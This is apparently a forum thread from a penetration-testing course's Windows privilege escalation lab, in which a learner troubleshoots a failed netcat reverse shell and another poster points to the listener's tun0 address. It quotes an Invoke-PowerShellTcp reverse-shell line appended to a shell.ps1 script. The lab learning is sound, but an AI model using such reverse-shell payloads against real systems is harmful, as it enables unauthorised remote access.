Windows Privilege Escalation - Vulnerable Services Need Help

If anyone has done the windows privilege Escalation Module.

Im on “Attacking the OS” “vulnerable services” section and could use some help.

This section shouldn’t be too hard as you are supposed to just copy the example that the lesson gives you.

But after seemingly following the example to the letter the exploit is not working. I am not getting the netcat shell.

Only thing I can think of right now is that I may not be appending the

<Invoke-PowerShellTcp -Reverse -IPAddress -Port 9443>

correctly. to the shell.ps1 script. Ive tried pasting this in many different places in the script of course replacing the I.P with my attack box I.P address. I never get the netcat shell.

ok some reason my own parrot virtual machine was unable to get the netcat shell listener.

Using the pwn box I was able to get the shell. Possible somenetwork or firewall setting on my own set up may have prevented it.Ok I noticed on that bottomterminal is says listening onLooks odd. Should be listening on your tun0 I.P address ofyour attack machine.